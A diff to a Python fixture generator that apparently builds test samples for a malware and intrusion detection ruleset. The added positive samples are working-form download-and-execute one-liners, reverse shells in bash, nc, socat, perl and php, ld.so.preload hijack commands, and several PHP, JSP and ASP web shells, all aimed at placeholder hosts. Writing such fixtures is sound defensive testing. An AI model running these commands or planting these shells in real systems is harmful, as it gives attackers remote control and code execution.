@@ -270,6 +270,94 @@ def positives():
     yield ("ld.so.preload", "IRK_Linux_LD_Preload_File_Suspicious_Path",
            b"/dev/shm/.x/libhide.so\n")
 
+    # --- issue 18: download-and-run forms ---------------------------------
+    yield ("crontab_weekday", "IRK_Linux_Cron_Download_Execute", (
+        "15 4 * * mon-fri root curl -fsSL http://203.0.113.7/u.sh | sudo -E bash\n"
+        ).encode())
+    yield ("crontab_python", "IRK_Linux_Cron_Download_Execute", (
+        "0 2 * jan sun wget -qO- https://198.51.100.3/p.py | python3 -\n").encode())
+    yield ("eval_curl.sh", "IRK_Linux_Script_Download_Pipe_Shell",
+           b"#!/bin/sh\neval \"$(curl -fsSL https://get.example.invalid/x)\"\n")
+    yield ("source_curl.sh", "IRK_Linux_Script_Download_Pipe_Shell",
+           b"source <(curl -s https://get.example.invalid/env)\n")
+    yield ("bash_procsub.sh", "IRK_Linux_Script_Download_Pipe_Shell",
+           b"bash < <(wget -qO- https://get.example.invalid/i)\n")
+    yield ("env_bash.sh", "IRK_Linux_Script_Download_Pipe_Shell",
+           b"curl -s https://get.example.invalid/i | env bash\n")
+    yield ("continuation_https.sh", "IRK_Linux_Script_Download_Pipe_Shell",
+           b"curl -fsSL https://get.example.invalid/i.sh \\\n  | sh\n")
+    yield ("download_run.sh", "IRK_Linux_Script_Download_Pipe_Shell",
+           b"wget -O /tmp/.u https://get.example.invalid/u && chmod +x /tmp/.u && /tmp/.u\n")
+    # a Markdown fence line no longer disables the shell rules
+    yield ("fenced.sh", "IRK_Linux_Download_Exec_Raw_Host",
+           b"```\ncurl -fsSL 203.0.113.7/x.sh | sh\n")
+    yield ("busybox.sh", "IRK_Linux_Download_Exec_Raw_Host",
+           b"wget -qO- http://203.0.113.7/b | busybox sh\n")
+    yield ("usr_local_bash.sh", "IRK_Linux_Download_Exec_Raw_Host",
+           b"curl -s evil.example.invalid/i.sh | /usr/local/bin/bash\n")
+    yield ("python_stdin.sh", "IRK_Linux_Download_Exec_Raw_Host",
+           b"curl -s http://203.0.113.7:8080/a.py | python3 -\n")
+    yield ("continuation.sh", "IRK_Linux_Download_Exec_Raw_Host",
+           b"curl -fsSL http://203.0.113.7/x.sh \\\n  | sh\n")
+    yield ("eval_ip.sh", "IRK_Linux_Download_Exec_Raw_Host",
+           b"eval \"$(curl -fsSL http://203.0.113.7/x)\"\n")
+    # --- issue 18: reverse shells -----------------------------------------
+    yield ("revshell_fd196.sh", "IRK_Linux_Reverse_Shell_DevTcp", (
+        "exec 196<>/dev/tcp/192.0.2.10/443\n"
+        "sh <&196 >&196 2>&196\n").encode())
+    yield ("revshell_lo_and_real.sh", "IRK_Linux_Reverse_Shell_DevTcp", (
+        "exec 3<>/dev/tcp/127.0.0.1/80\n"
+        "exec 4<>/dev/tcp/192.0.2.10/443\n").encode())
+    yield ("revshell_nc_nopath.sh", "IRK_Linux_Reverse_Shell_Tools",
+           b"nc -e sh 192.0.2.10 4444\n")
+    yield ("revshell_nc_after.sh", "IRK_Linux_Reverse_Shell_Tools",
+           b"ncat 192.0.2.10 4444 -e /bin/bash\n")
+    yield ("revshell_socat_system.sh", "IRK_Linux_Reverse_Shell_Tools",
+           b"socat tcp:192.0.2.10:4444 system:sh\n")
+    yield ("revshell_fifo.sh", "IRK_Linux_Reverse_Shell_Tools",
+           b"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.10 4444 >/tmp/f\n")
+    yield ("revshell_mknod.sh", "IRK_Linux_Reverse_Shell_Tools",
+           b"mknod /tmp/p p && nc 192.0.2.10 4444 0</tmp/p | /bin/bash 1>/tmp/p\n")
+    yield ("revshell_perl.sh", "IRK_Linux_Reverse_Shell_Tools", (
+        "perl -e 'use Socket;$i=\"192.0.2.10\";$p=4444;socket(S,PF_INET,"
+        "SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,"
+        "inet_aton(\"192.0.2.10\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'\n"
+        ).encode())
+    yield ("revshell_php.sh", "IRK_Linux_Reverse_Shell_Tools",
+           b"php -r '$sock=fsockopen(\"192.0.2.10\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'\n")
+    # --- issue 18: ld.so.preload writes and unit LD_PRELOAD -----------------
+    yield ("preload_tee.sh", "IRK_Linux_LD_Preload_Hijack",
+           b"echo /usr/lib/libsys.so | sudo tee -a /etc/ld.so.preload\n")
+    yield ("preload_cp.history", "IRK_Linux_LD_Preload_Hijack",
+           b"ls\ncp /tmp/p.list /etc/ld.so.preload\n")
+    yield ("preload_sed.sh", "IRK_Linux_LD_Preload_Hijack",
+           b"sed -i '1i /lib/libx.so' /etc/ld.so.preload\n")
+    yield ("preload_redir.history", "IRK_Linux_LD_Preload_Hijack",
+           b"printf '%s\\n' /lib/x.so >/etc/ld.so.preload\n")
+    yield ("hidden-preload.service", "IRK_Linux_LD_Preload_Hijack", (
+        "[Service]\nEnvironment=LD_PRELOAD=/home/bob/.local/lib/libh.so\n"
+        "ExecStart=/usr/sbin/sshd -D\n").encode())
+    # --- issue 18: web shells ---------------------------------------------
+    yield ("varfunc.php", "IRK_WebShell_PHP_Request_Exec",
+           b"<?php $_GET['f']($_GET['c']); ?>\n")
+    yield ("indirect.php", "IRK_WebShell_PHP_Request_Exec",
+           b"<?php\n$c = $_POST['x'];\nsystem($c);\n?>\n")
+    yield ("callback.php", "IRK_WebShell_PHP_Request_Exec",
+           b"<?php call_user_func('system', $_REQUEST['cmd']); ?>\n")
+    c1 = base64.b64encode(("echo 'irkit fixture';" + "".join(
+        hashlib.sha256(str(i).encode()).hexdigest() for i in range(6))).encode())
+    yield ("b64eval.php", "IRK_WebShell_PHP_Obfuscated_Eval",
+           b"<?php eval(base64_decode('" + c1 + b"')); ?>\n")
+    yield ("cmd.jspx", "IRK_WebShell_JSP_Runtime_Exec", (
+        "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\">\n"
+        "<jsp:scriptlet>Process p = Runtime.getRuntime().exec("
+        "request.getParameter(\"c\"));</jsp:scriptlet>\n</jsp:root>\n").encode())
+    yield ("eval.asp", "IRK_WebShell_ASPX_Request_Exec",
+           b"<%@ Language=VBScript %>\n<% eval request(\"irkit\") %>\n")
+    yield ("start.aspx", "IRK_WebShell_ASPX_Request_Exec", (
+        "<%@ Page Language=\"C#\" %>\n<% System.Diagnostics.Process.Start("
+        "\"cmd.exe\", \"/c \" + Request[\"c\"]); %>\n").encode())
+
     # --- web shells ------------------------------------------------------
     yield ("cmd.php", "IRK_WebShell_PHP_Request_Exec",
            b"<?php if (isset($_GET['c'])) { system($_GET['c']); } ?>\n")
@@ -344,13 +432,6 @@ def negatives():
         "exec 3<>/dev/tcp/$HOST/$PORT || exit 1\n"
         "curl -fsSL https://example.org/release.tgz -o release.tgz\n"
         "echo \"$payload\" | base64 -d > blob.bin\n").encode())
-    yield ("INSTALL.md", (
-        "# Installing\n\nRun the vendor installer:\n\n```sh\n"
-        "curl -fsSL https://get.example.org/install.sh | sh\n```\n").encode())
-    yield ("installation.html", (
-        "<!DOCTYPE HTML>\n<html lang=\"en\"><body><pre><code>"
-        "curl --proto '=https' -sSf https://sh.example.org | sh"
-        "</code></pre></body></html>\n").encode())
     yield ("index.php",
            b"<?php echo htmlspecialchars($_GET['q'] ?? '', ENT_QUOTES); ?>\n")
     yield ("hello.jsp", (
@@ -360,8 +441,36 @@ def negatives():
         "<%@ Page Language=\"C#\" %>\n<% Response.Write(Server.HtmlEncode("
         "Request.QueryString[\"q\"])); %>\n").encode())
     yield ("ld.so.preload", b"/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n")
+    yield ("health_lo.sh", (
+        "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080 || exit 1\n"
+        "exec 196<>/dev/tcp/localhost/5432\n"
+        "bash -i >& /dev/tcp/127.0.0.53/53 0>&1\n").encode())
+    yield ("nc_port_test.sh", b"nc -zv db.example.org 5432\nnc -e sh 127.0.0.1 4444\n"
+           b"socat tcp:[::1]:80 -\n")
+    yield ("jemalloc.service", (
+        "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"
+        "ExecStart=/usr/bin/redis-server\n").encode())
+    # an m4/configure continuation into a shell, no download
+    yield ("abi.m4", b"    echo 'int x;' \\\n         | sh -s -- cc\n")
+    yield ("read_preload.sh", b"cat /etc/ld.so.preload\ntest -s /etc/ld.so.preload && echo set\n")
+    yield ("template.php", (
+        "<?php $page = htmlspecialchars($_GET['p'] ?? 'home');\n"
+        "exec('git rev-parse HEAD', $out);\n$stmt = $db->exec($sql); ?>\n").encode())
     yield ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00"
            + bytes(range(256)) * 4 + b"\xff\xd9")
+
+
+def lowscores():
+    """Yield (file name, bytes) that only rules scored below 60 may match."""
+    yield ("vendor_install.sh",
+           b"curl --proto '=https' -sSf https://sh.example.org/install | sh\n")
+    yield ("INSTALL.md", (
+        "# Installing\n\nRun the vendor installer:\n\n```sh\n"
+        "curl -fsSL https://get.example.org/install.sh | sh\n```\n").encode())
+    yield ("installation.html", (
+        "<!DOCTYPE HTML>\n<html lang=\"en\"><body><pre><code>"
+        "curl --proto '=https' -sSf https://sh.example.org | sh"
+        "</code></pre></body></html>\n").encode())
 
 
 def main(argv):
@@ -384,6 +493,11 @@ def main(argv):
             manifest.write("%s\t%s\n" % (name, rule))
     for name, data in negatives():
         with open(os.path.join(neg, name), "wb") as f:
+            f.write(data)
+    low = os.path.join(out, "lowscore")
+    os.makedirs(low, exist_ok=True)
+    for name, data in lowscores():
+        with open(os.path.join(low, name), "wb") as f:
             f.write(data)
     return 0
 
